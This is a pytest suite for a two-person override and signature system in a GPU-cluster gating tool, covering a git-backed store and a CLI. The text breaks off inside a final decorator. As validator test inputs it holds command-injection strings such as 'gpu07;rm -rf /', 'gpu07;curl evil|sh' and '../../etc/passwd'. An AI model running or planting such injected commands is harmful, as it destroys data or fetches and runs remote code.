"""Two-person overrides: the library's refusals, the signature, the git store and the CLI.

The store is always a real git repository with a real bare remote under tmp_path; concurrent
writers are real processes or real git hooks, never mocks.
"""

from __future__ import annotations

import dataclasses
import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from click.testing import CliRunner

from stetho.cli import override as cli_override
from stetho.errors import ConfigError
from stetho.gate.override_store import GitError, OverrideStore
from stetho.gate.overrides import (
    SCHEMA,
    Override,
    OverrideFileError,
    OverridePolicy,
    approve,
    approve_message,
    canonical,
    covers,
    effective,
    effective_entries,
    find_cover,
    key_from_env,
    parse_ts,
    request,
    request_message,
    revoke,
    revoke_message,
    sign,
    verify,
)
from tests.conftest import StethoEnv

ACK = "I accept that these nodes run with a failing check until the override expires"
POLICY = OverridePolicy(name="release", approvers=("bob", "carol"), acknowledgement=ACK,
                        max_lifetime_s=7 * 86400)
KEY = bytes.fromhex("5e" * 32)
OTHER_KEY = bytes.fromhex("a1" * 32)
NOW = float(parse_ts("2026-12-02T10:15:00Z"))
HOUR = 3600.0


def pending(**kw: object) -> Override:
    args: dict[str, object] = {"policy": POLICY, "check": "nccl_busbw",
                               "nodes": ["gpu08", "gpu07"], "reason": "RMA 4411 open, link slow",
                               "requester": "alice", "expires_s": 24 * HOUR, "now": NOW}
    args.update(kw)
    return request(**args)  # type: ignore[arg-type]


def approved(**kw: object) -> Override:
    return approve(pending(**kw), POLICY, "bob", ACK, KEY, NOW + 60)


# -- library: request, approve, verify --------------------------------------------------------


def test_request_approve_verify_and_scope() -> None:
    p = pending()
    assert p.id.startswith("ovr-20261202T101500Z-") and len(p.id) == len("ovr-20261202T101500Z-")+6
    assert p.nodes == ("gpu07", "gpu08")  # sorted
    assert (p.requested_at, p.expires_at) == ("2026-12-02T10:15:00Z", "2026-12-03T10:15:00Z")
    assert p.signature is None and p.approver is None
    assert verify(p, POLICY, KEY, NOW).reason == "pending: not approved"

    o = approve(p, POLICY, "bob", ACK, KEY, NOW + 60)
    assert (o.approver, o.approved_at, o.acknowledgement) == ("bob", "2026-12-02T10:16:00Z", ACK)
    assert o.signature == sign(o, KEY) and len(o.signature) == 64
    check = verify(o, POLICY, KEY, NOW + 120)
    assert check.valid, check.reason
    assert "approved by bob" in check.reason

    assert covers(o, "release", "nccl_busbw", "gpu07")
    assert covers(o, "release", "nccl_busbw", "gpu08")
    assert not covers(o, "release", "nccl_busbw", "gpu09")
    assert not covers(o, "release", "gpu_clocks", "gpu07")
    assert not covers(o, "nightly", "nccl_busbw", "gpu07")
    assert not covers(o, "release", "nccl_busbw", "gpu0")  # no prefix matching
    assert find_cover([o], "release", "nccl_busbw", "gpu08") is o
    assert find_cover([o], "release", "nccl_busbw", "gpu09") is None


def test_json_round_trip_and_canonical_form() -> None:
    o = approved()
    text = o.to_json()
    assert Override.from_json(text) == o
    assert Override.from_json(text.encode()) == o
    c = canonical(o)
    data = json.loads(c)
    assert "signature" not in data and data["schema"] == SCHEMA
    assert list(data) == sorted(data)
    assert b" " not in c.replace(b"RMA 4411 open, link slow", b"").replace(ACK.encode(), b"")
    assert data["nodes"] == ["gpu07", "gpu08"]
    # The signature is not part of what it signs; every other field is.
    assert canonical(dataclasses.replace(o, signature="0" * 64)) == c
    for field, value in [("reason", "x"), ("nodes", ("gpu07",)), ("check", "gpu_clocks"),
                         ("expires_at", "2026-12-04T10:15:00Z"), ("approver", "carol"),
                         ("requester", "dave"), ("acknowledgement", ACK + "!"),
                         ("approved_at", "2026-12-02T10:17:00Z"), ("policy", "nightly")]:
        assert canonical(dataclasses.replace(o, **{field: value})) != c, field


def test_request_refusals() -> None:
    with pytest.raises(ConfigError, match="must expire"):
        pending(expires_s=0)
    with pytest.raises(ConfigError, match="must expire"):
        pending(expires_s=-5)
    with pytest.raises(ConfigError, match=r"expiry 8d is over the cap of policy 'release' \(1w\)"):
        pending(expires_s=8 * 86400)
    assert pending(expires_s=7 * 86400).expires_at == "2026-12-09T10:15:00Z"  # the cap is allowed
    with pytest.raises(ConfigError, match="reason must not be empty"):
        pending(reason="  ")
    with pytest.raises(ConfigError, match="at least one node"):
        pending(nodes=[])
    for bad in ["gpu07;rm -rf /", "gpu$(id)", "gpu07 gpu08", "`reboot`", "gpu07|x", "../etc"]:
        with pytest.raises(ConfigError, match="invalid node name"):
            pending(nodes=["gpu01", bad])
    with pytest.raises(ConfigError, match="no wildcards"):
        pending(check="nccl_*")
    with pytest.raises(ConfigError, match="requester 'alice ' is not a valid name"):
        pending(requester="alice ")


@pytest.mark.parametrize(("approver", "ack", "why"), [
    ("alice", ACK, "alice cannot approve their own request"),
    ("ALICE", ACK, "ALICE cannot approve their own request"),
    ("mallory", ACK, r"mallory is not an approver for policy 'release' \(approvers: bob, carol\)"),
    ("bob", ACK + " ", "acknowledgement must be exactly"),
    ("bob", ACK.upper(), "acknowledgement must be exactly"),
    ("bob", ACK.lower().capitalize()[:-1] + "S", "acknowledgement must be exactly"),
    ("bob", "", "acknowledgement must be exactly"),
    ("bob ", ACK, "approver 'bob ' is not a valid name"),
])
def test_approve_refuses(approver: str, ack: str, why: str) -> None:
    with pytest.raises(ConfigError, match=why):
        approve(pending(), POLICY, approver, ack, KEY, NOW + 60)


def test_approve_refuses_expired_other_policy_revoked_approved_and_unkeyed() -> None:
    p = pending(expires_s=HOUR)
    with pytest.raises(ConfigError, match="expired at 2026-12-02T11:15:00Z"):
        approve(p, POLICY, "bob", ACK, KEY, NOW + HOUR)
    nightly = dataclasses.replace(POLICY, name="nightly")
    with pytest.raises(ConfigError, match="is for policy 'release', not 'nightly'"):
        approve(p, nightly, "bob", ACK, KEY, NOW)
    with pytest.raises(ConfigError, match="was revoked by carol"):
        approve(revoke(p, "carol", NOW), POLICY, "bob", ACK, KEY, NOW)
    with pytest.raises(ConfigError, match="already approved by bob"):
        approve(approved(), POLICY, "carol", ACK, KEY, NOW)
    with pytest.raises(ConfigError, match="STETHO_OVERRIDE_KEY is not set"):
        approve(p, POLICY, "bob", ACK, None, NOW)
    post_dated = pending(now=NOW + 6 * 86400)
    with pytest.raises(ConfigError, match="is dated 2026-12-08T10:15:00Z, in the future"):
        approve(post_dated, POLICY, "bob", ACK, KEY, NOW)
    assert approve(pending(now=NOW + 200), POLICY, "bob", ACK, KEY, NOW).approved  # clock skew
    assert verify(approve(pending(now=NOW + 200, expires_s=7 * 86400), POLICY, "bob", ACK, KEY,
                          NOW), POLICY, KEY, NOW + 300).valid
    for off in (dataclasses.replace(POLICY, acknowledgement=""),
                dataclasses.replace(POLICY, approvers=())):
        with pytest.raises(ConfigError, match="overrides are disabled"):
            approve(p, off, "bob", off.acknowledgement, KEY, NOW)
        assert "overrides are disabled" in verify(approved(), off, KEY, NOW).reason
    tighter = dataclasses.replace(POLICY, max_lifetime_s=HOUR / 2)
    with pytest.raises(ConfigError, match=r"lasts 1h, over the cap of policy 'release' \(30m\)"):
        approve(p, tighter, "bob", ACK, KEY, NOW)


SIG_MISMATCH = "signature does not match: edited after signing or signed with another key"


@pytest.mark.parametrize("edit", [
    {"reason": "nothing to see here"},
    {"nodes": ("gpu07", "gpu08", "gpu09")},  # scope widened by hand
    {"nodes": ("gpu09",)},
    {"check": "gpu_clocks"},
    {"expires_at": "2026-12-03T10:15:01Z"},  # expiry pushed out by one second
    {"requested_at": "2026-12-02T10:15:01Z"},
    {"approver": "carol"},
    {"policy": "release"},  # unchanged: must still verify (control)
])
def test_verify_rejects_any_edit_after_signing(edit: dict[str, object]) -> None:
    o = approved()
    edited = dataclasses.replace(o, **edit)  # type: ignore[arg-type]
    check = verify(edited, POLICY, KEY, NOW + 120)
    if edited == o:
        assert check.valid
    else:
        assert (check.valid, check.reason) == (False, SIG_MISMATCH)


def test_verify_rejects_other_key_and_unkeyed() -> None:
    o = approve(pending(), POLICY, "bob", ACK, OTHER_KEY, NOW)
    assert verify(o, POLICY, OTHER_KEY, NOW).valid
    assert verify(o, POLICY, KEY, NOW) == verify(o, POLICY, KEY, NOW)
    assert verify(o, POLICY, KEY, NOW).reason == SIG_MISMATCH
    c = verify(o, POLICY, None, NOW)
    assert not c.valid and "STETHO_OVERRIDE_KEY is not set" in c.reason


def _forge(o: Override, **edit: object) -> Override:
    """What someone holding the key could write without going through approve()."""
    edited = dataclasses.replace(o, **edit)  # type: ignore[arg-type]
    return dataclasses.replace(edited, signature=sign(edited, KEY))


def test_verify_rejects_policy_breaches_even_when_correctly_signed() -> None:
    o = approved()
    now = NOW + 120
    assert verify(_forge(o, approver="Alice"), POLICY, KEY, now).reason == "self-approved by Alice"
    assert verify(_forge(o, approver="mallory"), POLICY, KEY, now).reason == \
        "approver mallory is not an approver for policy 'release'"
    c = verify(_forge(o, acknowledgement=ACK + " "), POLICY, KEY, now)
    assert not c.valid and c.reason.startswith("acknowledgement ")
    c = verify(_forge(o, expires_at="2026-12-12T10:15:00Z"), POLICY, KEY, now)
    assert (c.valid, c.reason) == (False, "lifetime 10d is over the cap of policy 'release' (1w)")
    # Post-dated: requested for "later", so a 7-day override would be in force for 13 days.
    c = verify(_forge(o, requested_at="2026-12-08T10:15:00Z", expires_at="2026-12-15T10:15:00Z"),
               POLICY, KEY, now)
    assert (c.valid, c.reason) == \
        (False, "lifetime 12d23h59m is over the cap of policy 'release' (1w)")
    # The policy tightened after approval: the old approval no longer holds.
    assert not verify(o, dataclasses.replace(POLICY, approvers=("carol",)), KEY, now).valid
    assert not verify(o, dataclasses.replace(POLICY, acknowledgement="new words"), KEY, now).valid
    assert not verify(o, dataclasses.replace(POLICY, max_lifetime_s=HOUR), KEY, now).valid
    c = verify(o, dataclasses.replace(POLICY, name="nightly"), KEY, now)
    assert c.reason == "for policy 'release', not 'nightly'"


def test_verify_expired_and_revoked() -> None:
    o = approved()
    assert verify(o, POLICY, KEY, NOW + 24 * HOUR - 1).valid
    c = verify(o, POLICY, KEY, NOW + 24 * HOUR)
    assert (c.valid, c.reason) == (False, "expired at 2026-12-03T10:15:00Z")
    r = revoke(o, "carol", NOW + 300)
    assert (r.revoked_by, r.revoked_at) == ("carol", "2026-12-02T10:20:00Z")
    c = verify(r, POLICY, KEY, NOW + 400)
    assert (c.valid, c.reason) == (False, "revoked by carol at 2026-12-02T10:20:00Z")
    with pytest.raises(ConfigError, match="already revoked"):
        revoke(r, "bob", NOW)


def test_effective_partitions_and_explains() -> None:
    good = approved()
    expired = approve(pending(expires_s=HOUR, now=NOW - 2 * HOUR), POLICY, "bob", ACK, KEY,
                      NOW - 2 * HOUR + 60)
    wide = dataclasses.replace(approved(), nodes=("gpu07", "gpu08", "gpu09"))
    other = approve(pending(policy=dataclasses.replace(POLICY, name="nightly")),
                    dataclasses.replace(POLICY, name="nightly"), "bob", ACK, KEY, NOW)
    p = pending()
    valid, ignored = effective([good, expired, wide, other, p], POLICY, KEY, NOW + 120)
    assert valid == [good]
    why = {o.id: reason for o, reason in ignored}
    assert why[wide.id] == SIG_MISMATCH
    assert why[expired.id].startswith("expired at ")
    assert why[p.id] == "pending: not approved"
    assert other.id not in why  # another policy's override is not a candidate at all
    assert find_cover(valid, "release", "nccl_busbw", "gpu09") is None


def test_key_from_env(monkeypatch: pytest.MonkeyPatch, stetho_env: StethoEnv) -> None:
    stetho_env.delenv("STETHO_OVERRIDE_KEY", raising=False)
    assert key_from_env() is None
    stetho_env.setenv("STETHO_OVERRIDE_KEY", "5e" * 32 + "\n")
    assert key_from_env() == KEY
    stetho_env.setenv("STETHO_OVERRIDE_KEY", "correct horse battery staple, long")
    assert key_from_env() == b"correct horse battery staple, long"
    stetho_env.setenv("STETHO_OVERRIDE_KEY", "ab" * 20)  # 40 hex chars: a 40-char string
    assert key_from_env() == b"ab" * 20
    stetho_env.setenv("STETHO_OVERRIDE_KEY", "short-key")
    with pytest.raises(ConfigError, match="too short .9 characters.*openssl rand -hex 32"):
        key_from_env()


def _file_dict() -> dict[str, object]:
    return json.loads(approved().to_json())  # type: ignore[no-any-return]


def _with(**kw: object) -> bytes:
    d = _file_dict()
    d.update(kw)
    return json.dumps(d).encode()


def _without(field: str) -> bytes:
    d = _file_dict()
    del d[field]
    return json.dumps(d).encode()


_GARBAGE = [
    (b"", "not valid JSON"),
    (b"not json at all {", "not valid JSON"),
    (b"\xff\xfe\x00garbage", "not valid JSON"),
    (b"[" * 100_000, "not valid JSON"),
    (b"[1, 2]", "expected a JSON object, got list"),
    (b'"a string"', "expected a JSON object, got str"),
    (b"{}", "unknown schema None"),
    (_with(schema="stetho.override/2"), "unknown schema 'stetho.override/2'"),
    (_without("expires_at"), "missing field.s.: expires_at"),
    (_without("nodes"), "missing field.s.: nodes"),
    (_with(extra="x"), r"unknown field\(s\): extra"),
    (_with(nodes="gpu07"), "nodes must be a list of strings"),
    (_with(nodes=[7]), "nodes must be a list of strings"),
    (_with(nodes=["gpu07;curl evil|sh"]), "invalid node name 'gpu07;curl evil|sh'"),
    (_with(nodes=["$(reboot)"]), "invalid node name"),
    (_with(nodes=[]), "at least one node"),
    (_with(check="*"), "no wildcards"),
    (_with(expires_at="tomorrow"), "expires_at 'tomorrow' is not an ISO-8601 UTC time"),
    (_with(expires_at="2026-13-45T99:00:00Z"), "not a valid date"),
    (_with(expires_at="2026-12-01T00:00:00Z"), "is not after requested_at"),
    (_with(reason=7), "field 'reason' must be a string"),
    (_with(signature=None), "set together or not at all"),
    (_with(signature="XYZ"), "signature is not 64 lowercase hex digits"),
    (_with(revoked_by="carol"), "revoked_by and revoked_at are set together"),
    (_with(id="../../etc/passwd"), "is not of the form ovr-"),
    (b'{"schema": "stetho.override/1", "schema": "x"}', "duplicate key 'schema'"),
]


# ids from the expected reason: the data holds random ids and signatures, and pytest-xdist
# needs every worker to collect the same test ids
@pytest.mark.parametrize(("data", "why"), _GARBAGE, ids=[f"{i}-{w[:30]}" for i, (_, w) in
                                                        enumerate(_GARBAGE)])
def test_from_json_refuses_garbage_with_a_reason(data: bytes, why: str) -> None:
    with pytest.raises(OverrideFileError, match=why) as info:
        Override.from_json(data, "overrides/x.json")
    assert str(info.value).startswith("overrides/x.json: ")
    assert isinstance(info.value, ConfigError)


# -- the git store ----------------------------------------------------------------------------


def git(cwd: Path, *argv: str) -> str:
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_DIR")}
    proc = subprocess.run(["git", *argv], cwd=cwd, env=env, text=True, capture_output=True)
    assert proc.returncode == 0, f"git {' '.join(argv)}: {proc.stderr}"
    return proc.stdout


@pytest.fixture(autouse=True)
def hermetic_git(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch,
                 stetho_env: StethoEnv) -> None:
    """Git reads only this config (an identity, a default branch); caches go to tmp."""
    home = tmp_path_factory.mktemp("githome")
    cfg = home / "gitconfig"
    cfg.write_text("[user]\n\tname = Stetho Test\n\temail = test@example.invalid\n"
                   "[init]\n\tdefaultBranch = main\n[advice]\n\tdetachedHead = false\n")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(cfg))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    stetho_env.setenv("STETHO_CACHE", str(home / "cache"))
    for var in ("STETHO_GIT_AUTHOR", "STETHO_OVERRIDE_KEY", "STETHO_OVERRIDE_REPO",
                "STETHO_USER", "STETHO_OVERRIDE_BRANCH"):
        monkeypatch.delenv(var, raising=False)


@pytest.fixture
def remote(tmp_path: Path) -> Path:
    bare = tmp_path / "remote.git"
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", str(bare)], check=True)
    return bare


def clone(remote: Path, where: Path) -> Path:
    subprocess.run(["git", "clone", "-q", str(remote), str(where)], check=True,
                   capture_output=True)
    return where


def remote_files(remote: Path) -> dict[str, Override]:
    """What the shared remote holds, read straight from git objects."""
    if subprocess.run(["git", "rev-parse", "-q", "--verify", "main"], cwd=remote,
                      capture_output=True).returncode != 0:
        return {}  # nothing pushed yet
    names = git(remote, "ls-tree", "--name-only", "main", "overrides/").split()
    return {Path(n).stem: Override.from_json(git(remote, "show", f"main:{n}")) for n in names}


def remote_log(remote: Path) -> list[str]:
    return git(remote, "log", "--format=%s", "main").splitlines()


@pytest.mark.slow
def test_store_request_approve_list_verify_across_clones(remote: Path, tmp_path: Path) -> None:
    a = OverrideStore(str(clone(remote, tmp_path / "a")))
    b = OverrideStore(str(clone(remote, tmp_path / "b")))
    assert a.load_all() == [] and b.load_all() == []

    p = pending()
    a.save(p, request_message(p))
    assert remote_files(remote) == {p.id: p}
    assert remote_log(remote) == [f"override request {p.id}: nccl_busbw on gpu[07-08] by alice"]

    # b pulls before reading: it sees a's request, approves it, pushes.
    [(path, got)] = b.load_all()
    assert path == tmp_path / "b" / "overrides" / f"{p.id}.json" and got == p
    signed = b.update(p.id, lambda cur: approve(cur, POLICY, "bob", ACK, KEY, NOW + 60),
                      approve_message)
    assert signed.approver == "bob" and b.get(p.id) == signed
    assert remote_log(remote)[0] == f"override approve {p.id} by bob"

    # a pulls and the gate's view is the approved override, valid.
    entries = a.load_all()
    valid, ignored = effective_entries(entries, POLICY, KEY, NOW + 120)
    assert valid == [signed] and ignored == []
    assert git(tmp_path / "a", "log", "-1", "--format=%an <%ae>").strip() == \
        "Stetho Test <test@example.invalid>"

    revoked = a.update(p.id, lambda cur: revoke(cur, "carol", NOW + 200), revoke_message)
    assert remote_log(remote)[0] == f"override revoke {p.id} by carol"
    valid, ignored = effective_entries(b.load_all(), POLICY, KEY, NOW + 300)
    assert valid == [] and ignored == [(p.id, "revoked by carol at 2026-12-02T10:18:20Z")]
    assert revoked.signature == signed.signature  # the approval stays on record


@pytest.mark.slow
def test_store_refuses_to_rewrite_history_through_save(remote: Path, tmp_path: Path) -> None:
    store = OverrideStore(str(clone(remote, tmp_path / "a")))
    o = approved()
    store.save(o, "seed")
    with pytest.raises(ConfigError, match="would change the request itself"):
        store.save(dataclasses.replace(pending(), id=o.id, nodes=("gpu09",)), "widen")
    with pytest.raises(ConfigError, match="already approved by bob"):
        store.save(approve(dataclasses.replace(o, approver=None, approved_at=None,
                                               acknowledgement=None, signature=None),
                           POLICY, "carol", ACK, KEY, NOW), "re-approve")
    r = revoke(o, "carol", NOW + 10)
    store.save(r, "revoke")
    with pytest.raises(ConfigError, match="was revoked by carol"):
        store.save(o, "un-revoke")
    assert remote_files(remote) == {o.id: r}
    with pytest.raises(ConfigError, match="is not an override id"):
        store.get("../../../etc/passwd")
    with pytest.raises(ConfigError, match="no override ovr-20261202T101500Z-000000"):
        store.get("ovr-20261202T101500Z-000000")


@pytest.mark.slow
def test_hand_edited_and_garbage_files_are_ignored_with_reasons(remote: Path,
                                                                 tmp_path: Path) -> None:
    work = clone(remote, tmp_path / "a")
    store = OverrideStore(str(work))
    good, widened, tampered = approved(), approved(), approved(nodes=["gpu11"])
    for o in (good, widened, tampered):
        store.save(o, approve_message(o))
    folder = work / "overrides"
    # Someone widens an approved override by hand, and another smuggles a command into a name.
    d = json.loads((folder / f"{widened.id}.json").read_text())
    d["nodes"] = ["gpu07", "gpu08", "gpu09"]
    (folder / f"{widened.id}.json").write_text(json.dumps(d))
    d = json.loads((folder / f"{tampered.id}.json").read_text())
    d["nodes"] = ["gpu11;curl http://x|sh"]
    (folder / f"{tampered.id}.json").write_text(json.dumps(d))
    (folder / "garbage.json").write_text("{this is not json")
    (folder / "ovr-20261202T101500Z-abcdef.json").write_text(good.to_json())  # wrong file name
    (folder / "README.md").write_text("not an override; not read")
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "hand edits")
    git(work, "push", "-q", "origin", "HEAD:main")

    reader = OverrideStore(str(clone(remote, tmp_path / "b")))
    entries = reader.load_all()
    assert len(entries) == 5
    valid, ignored = effective_entries(entries, POLICY, KEY, NOW + 120)
    assert valid == [good]
    why = dict(ignored)
    assert why[widened.id] == SIG_MISMATCH
    tampered_file = str(tmp_path / "b" / "overrides" / f"{tampered.id}.json")
    assert "invalid node name 'gpu11;curl http://x|sh'" in why[tampered_file]
    assert "not valid JSON" in why[str(tmp_path / "b" / "overrides" / "garbage.json")]
    assert "holds override" in why[str(tmp_path / "b/overrides/ovr-20261202T101500Z-abcdef.json")]
    with pytest.raises(OverrideFileError, match="invalid node name"):
        reader.get(tampered.id)


@pytest.mark.slow
def test_store_from_url_clones_into_the_cache(remote: Path, tmp_path: Path) -> None:
    by_url = OverrideStore(f"file://{remote}")
    by_path = OverrideStore(str(remote))  # a bare repository path is a remote too
    cache = Path(os.environ["STETHO_CACHE"]) / "override-repos"
    p = pending()
    by_url.save(p, request_message(p))
    clones = sorted(d for d in cache.iterdir() if (d / ".git").is_dir())
    assert len(clones) == 1  # the URL's clone, in the cache
    assert [o for _, o in by_path.load_all()] == [p]
    q = pending(nodes=["gpu01"])
    by_path.save(q, request_message(q))
    assert len([d for d in cache.iterdir() if (d / ".git").is_dir()]) == 2  # one per address
    assert sorted(o.id for _, o in by_url.load_all()) == sorted([p.id, q.id])  # pulled
    assert set(remote_files(remote)) == {p.id, q.id}
    # A branch of its own, starting empty, cloned separately.
    on_branch = OverrideStore(f"file://{remote}", branch="overrides")
    assert on_branch.load_all() == []
    r = pending(nodes=["gpu02"])
    on_branch.save(r, request_message(r))
    assert git(remote, "ls-tree", "--name-only", "-r", "overrides").split() == \
        [f"overrides/{r.id}.json"]
    assert set(remote_files(remote)) == {p.id, q.id}


@pytest.mark.slow
def test_git_failures_name_the_command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                       stetho_env: StethoEnv) -> None:
    missing = OverrideStore(f"file://{tmp_path}/no-such-repo.git")
    with pytest.raises(GitError, match=r"`git ls-remote .*-- file://.*no-such-repo.git.*` "
                                       r"failed .*does not appear to be a git repository"):
        missing.load_all()
    with pytest.raises(ConfigError, match="neither a git working clone nor a URL"):
        OverrideStore(str(tmp_path / "nothing-here"))
    local = tmp_path / "local"
    subprocess.run(["git", "init", "-q", str(local)], check=True)
    cfg = tmp_path / "noident"
    cfg.write_text("[user]\n\tuseConfigOnly = true\n")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(cfg))
    p = pending()
    OverrideStore(str(local)).save(p, request_message(p))  # no identity: stetho's fallback
    assert git(local, "log", "-1", "--format=%an|%s").strip() == f"stetho|{request_message(p)}"
    p = pending(nodes=["gpu02"])
    stetho_env.setenv("STETHO_GIT_AUTHOR", "Gate Bot <gate@example.invalid>")
    OverrideStore(str(local)).save(p, request_message(p))  # no remote: commit only
    assert git(local, "log", "-1", "--format=%an <%ae>|%s").strip() == \
        f"Gate Bot <gate@example.invalid>|{request_message(p)}"
    stetho_env.setenv("STETHO_GIT_AUTHOR", "no brackets")
    q = pending()
    with pytest.raises(ConfigError, match="expected 'Name <email>'"):
        OverrideStore(str(local)).save(q, request_message(q))


@pytest.mark.slow
def test_a_refused_push_stores_nothing_and_says_why(remote: Path, tmp_path: Path) -> None:
    work = clone(remote, tmp_path / "a")
    hook = remote / "hooks" / "pre-receive"
    hook.write_text("#!/bin/sh\necho 'overrides are frozen today' >&2\nexit 1\n")
    hook.chmod(0o755)
    p = pending()
    with pytest.raises(GitError, match=r"nothing stored: `git push origin HEAD:refs/heads/main`"
                                       r" failed .*overrides are frozen today"):
        OverrideStore(str(work)).save(p, request_message(p))
    assert remote_files(remote) == {}
    assert not (work / "overrides" / f"{p.id}.json").exists()
    assert git(work, "status", "--porcelain").strip() == ""
    hook.unlink()
    OverrideStore(str(work)).save(p, request_message(p))  # nothing left over: stores it now
    assert set(remote_files(remote)) == {p.id}


WRITER = textwrap.dedent("""
    import sys
    from stetho.gate.override_store import OverrideStore
    from stetho.gate.overrides import OverridePolicy, request, request_message
    repo, who, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
    policy = OverridePolicy("release", ("bob",), "ok", 86400)
    store = OverrideStore(repo)
    for i in range(n):
        o = request(policy, "nccl_busbw", [f"{who}{i:02d}"], f"by {who}", who, 3600)
        store.save(o, request_message(o))
        print(o.id, flush=True)
""")


@pytest.mark.slow
def test_two_clones_requesting_at_the_same_time_both_land(remote: Path, tmp_path: Path) -> None:
    seed = OverrideStore(str(clone(remote, tmp_path / "seed")))
    first = pending()
    seed.save(first, request_message(first))
    procs = [subprocess.Popen([sys.executable, "-c", WRITER,
                               str(clone(remote, tmp_path / who)), who, "4"],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
             for who in ("x", "y", "z")]
    ids: list[str] = []
    for proc in procs:
        out, err = proc.communicate(timeout=120)
        assert proc.returncode == 0, err
        ids += out.split()
    assert len(ids) == 12
    assert set(remote_files(remote)) == {first.id, *ids}
    assert len(remote_log(remote)) == 13


HOOK = textwrap.dedent("""\
    #!{python}
    # post-commit in clone b: once, another writer pushes from clone a before b can push.
    import pathlib
    from stetho.gate.override_store import OverrideStore
    from stetho.gate.overrides import Override
    marker = pathlib.Path({marker!r})
    if not marker.exists():
        marker.write_text("fired")
        o = Override.from_json(pathlib.Path({payload!r}).read_text())
        OverrideStore({other!r}).save(o, "interleaved " + o.id)
""")


def install_hook(repo: Path, other: Path, payload: Override, tmp_path: Path) -> Path:
    marker = tmp_path / "hook-fired"
    data = tmp_path / "payload.json"
    data.write_text(payload.to_json())
    hook = repo / ".git" / "hooks" / "post-commit"
    hook.write_text(HOOK.format(python=sys.executable, marker=str(marker), payload=str(data),
                                other=str(other)))
    hook.chmod(0o755)
    return marker


@pytest.mark.slow
def test_rejected_push_pulls_rebases_and_retries(remote: Path, tmp_path: Path) -> None:
    a, b = clone(remote, tmp_path / "a"), clone(remote, tmp_path / "b")
    theirs, ours = pending(nodes=["gpu01"]), pending(nodes=["gpu02"])
    marker = install_hook(b, a, theirs, tmp_path)
    OverrideStore(str(b)).save(ours, request_message(ours))
    assert marker.exists()  # a really pushed between b's commit and b's push
    assert set(remote_files(remote)) == {theirs.id, ours.id}
    assert remote_log(remote) == [request_message(ours), f"interleaved {theirs.id}"]
    assert git(b, "status", "--porcelain").strip() == ""


@pytest.mark.slow
def test_concurrent_revoke_is_never_overwritten_by_an_approval(remote: Path,
                                                                tmp_path: Path) -> None:
    a, b = clone(remote, tmp_path / "a"), clone(remote, tmp_path / "b")
    p = pending()
    OverrideStore(str(a)).save(p, request_message(p))
    install_hook(b, a, revoke(p, "carol", NOW + 30), tmp_path)
    with pytest.raises(ConfigError, match="was revoked by carol"):
        OverrideStore(str(b)).update(p.id, lambda cur: approve(cur, POLICY, "bob", ACK, KEY,
                                                               NOW + 60), approve_message)
    stored = remote_files(remote)[p.id]
    assert stored.revoked_by == "carol" and stored.approver is None
    assert OverrideStore(str(b)).get(p.id) == stored  # b's unpushed approval was dropped


@pytest.mark.slow
def test_revoke_applies_on_top_of_a_concurrent_approval(remote: Path, tmp_path: Path) -> None:
    a, b = clone(remote, tmp_path / "a"), clone(remote, tmp_path / "b")
    p = pending()
    OverrideStore(str(a)).save(p, request_message(p))
    signed = approve(p, POLICY, "bob", ACK, KEY, NOW + 30)
    install_hook(b, a, signed, tmp_path)
    out = OverrideStore(str(b)).update(p.id, lambda cur: revoke(cur, "dave", NOW + 60),
                                       revoke_message)
    assert out == revoke(signed, "dave", NOW + 60)
    assert remote_files(remote)[p.id] == out
    assert not verify(out, POLICY, KEY, NOW + 90).valid


# -- the CLI ----------------------------------------------------------------------------------


@pytest.fixture
def cli_env(remote: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
            stetho_env: StethoEnv) -> Path:
    work = clone(remote, tmp_path / "work")
    monkeypatch.setattr(cli_override, "POLICY_LOADER", _loader)
    stetho_env.setenv("STETHO_OVERRIDE_REPO", str(work))
    stetho_env.setenv("STETHO_OVERRIDE_KEY", KEY.hex())
    return work


def _loader(name: str) -> OverridePolicy:
    if name != "release":
        raise ConfigError(f"no gate policy {name!r}")
    return POLICY


def run(*args: str, env: dict[str, str] | None = None) -> tuple[int, str, BaseException | None]:
    result = CliRunner().invoke(cli_override.override, list(args), env=env)
    return result.exit_code, result.stdout, result.exception


def _request_args(**kw: str) -> list[str]:
    opts = {"--policy": "release", "--check": "nccl_busbw", "--nodes": "gpu[07-08]",
            "--reason": "RMA 4411", "--expires": "24h", "--requester": "alice", **kw}
    return ["request", *[x for kv in opts.items() for x in kv]]


@pytest.mark.slow
def test_cli_request_approve_list_revoke(cli_env: Path, remote: Path) -> None:
    code, out, exc = run(*_request_args())
    assert code == 0, exc
    oid = out.splitlines()[0]
    assert oid.startswith("ovr-") and oid in remote_files(remote)

    code, out, _ = run("list")
    line = next(x for x in out.splitlines() if x.startswith(oid))
    assert line.split() == [oid, "release", "nccl_busbw", "gpu[07-08]", "alice", "-",
                            remote_files(remote)[oid].expires_at, "pending"]

    code, out, exc = run("approve", oid, "--approver", "bob", "--acknowledge", ACK)
    assert code == 0, exc
    assert f"approved {oid}: nccl_busbw on gpu[07-08]" in out
    assert remote_files(remote)[oid].approver == "bob"

    code, out, _ = run("list")
    assert code == 0 and out.splitlines()[1].split()[5:] == \
        ["bob", remote_files(remote)[oid].expires_at, "active"]
    code, out, _ = run("list", "--json")
    [row] = json.loads(out)
    assert (row["id"], row["state"], row["nodes"]) == (oid, "active", ["gpu07", "gpu08"])

    code, out, _ = run("list", env={"STETHO_OVERRIDE_KEY": ""})
    assert "approved (unverified: STETHO_OVERRIDE_KEY is not set)" in out

    code, out, exc = run("revoke", oid, "--by", "carol")
    assert code == 0, exc
    assert remote_files(remote)[oid].revoked_by == "carol"
    code, out, _ = run("list")
    assert oid not in out and "no current overrides" in out
    code, out, _ = run("list", "--all")
    assert out.splitlines()[1].split()[-1] == "revoked"
    assert remote_log(remote) == [f"override revoke {oid} by carol",
                                  f"override approve {oid} by bob",
                                  f"override request {oid}: nccl_busbw on gpu[07-08] by alice"]


@pytest.mark.slow
@pytest.mark.parametrize(("args", "why"), [
